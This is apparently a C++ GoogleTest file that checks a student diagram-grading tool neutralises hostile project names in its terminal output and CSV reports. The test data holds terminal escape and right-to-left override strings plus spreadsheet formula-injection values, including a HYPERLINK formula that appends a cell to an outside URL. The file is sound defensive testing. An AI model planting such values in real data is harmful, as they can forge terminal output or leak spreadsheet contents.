// Names and captions made to attack what reads the commands' output: a terminal (escape
// sequences, forged lines) and a spreadsheet (formulas). Run as real processes on a real store.
#include <gtest/gtest.h>

#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QTemporaryDir>

#include "diagrambuilder.h"
#include "projectstore.h"
#include "relvanerun.h"

namespace {

using CommandRun = RelvaneRun;

class HostileText : public ::testing::Test {
protected:
    void SetUp() override {
        ASSERT_TRUE(dir.isValid());
        const ProjectStore store(database());
        DiagramBuilder teacher;
        teacher.attribute(teacher.entity("Student"), "No", true);
        ASSERT_TRUE(store.saveAs(teacher.d, "teacher").ok);
    }
    QString database() const { return dir.filePath("class.db"); }
    // A student's project under `name`, with `caption` as its entity's caption.
    void saveStudent(const QString& name, const QString& caption) {
        DiagramBuilder b;
        b.attribute(b.entity(caption), "No", true);
        ASSERT_TRUE(ProjectStore(database()).saveAs(b.d, name).ok);
    }
    CommandRun relvane(const QStringList& arguments) const {
        return runRelvane(arguments, dir.path());
    }

    QTemporaryDir dir;
};

// Every line-based output of a name or caption holding an escape sequence, a line break, a tab
// and a right-to-left override: nothing of them reaches the output raw, and each line is a line.
TEST_F(HostileText, ControlCharactersReachNoLineBasedOutput) {
    const QString hostile = QStringLiteral("x\x1b[2K\r100\n\t\u202Ey");
    saveStudent(hostile, hostile);
    struct Output {
        QStringList arguments;
        int lines;
        QString shown;  // how the hostile text appears
    };
    const Output outputs[] = {
        {{"list", "--db", database()}, 2, "x\\x1B[2K\\x0D100\\x0A\\x09\\u{202E}y"},
        {{"check", "--db", database(), "--project", hostile, "--schema"}, 1, "x\\x1B[2K\\x0D100"},
        // The grade table turns line breaks and tabs into spaces.
        {{"grade", "--db", database(), "--reference", "teacher", "--all"},
         5,
         "x\\x1B[2K 100  \\u{202E}y"},
    };
    for (const Output& output : outputs) {
        SCOPED_TRACE(output.arguments.first().toStdString());
        const CommandRun run = relvane(output.arguments);
        EXPECT_EQ(run.out.count('\n'), output.lines) << run.out.toStdString();
        for (const QChar ch : run.out) {
            const bool raw = ch == QChar(0x1b) || ch == QChar('\r') || ch == QChar(0x202e);
            EXPECT_FALSE(raw) << "U+" << std::hex << int(ch.unicode());
        }
        EXPECT_TRUE(run.out.contains(output.shown)) << run.out.toStdString();
    }
}

// Names that a spreadsheet would take for formulas are written to the CSV report as text.
TEST_F(HostileText, NoFieldOfTheCsvReportIsAFormula) {
    const QStringList names = {"=HYPERLINK(\"http://example.com/\"&B6,\"alice\")",
                               "+1+2",
                               "-2+3",
                               "@SUM(1)",
                               "\t=2+3",
                               "\r=2+3"};
    for (const QString& name : names) saveStudent(name, "Student");
    saveStudent("plain", "Student");
    const QString csv = dir.filePath("report.csv");
    ASSERT_EQ(
        relvane({"grade", "--db", database(), "--reference", "teacher", "--all", "--output", csv})
            .status,
        0);
    QProcess python;
    python.start("/usr/bin/python3",
                 {"-c",
                  "import csv, json, sys\n"
                  "rows = list(csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline='')))\n"
                  "print(json.dumps([r[0] for r in rows if r]))",
                  csv});
    python.waitForFinished(60000);
    const QJsonArray firstFields = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
    for (const QString& name : names)
        EXPECT_TRUE(firstFields.contains("'" + name)) << name.toStdString();
    EXPECT_TRUE(firstFields.contains("plain")) << "other fields stay as they are";
}

}  // namespace
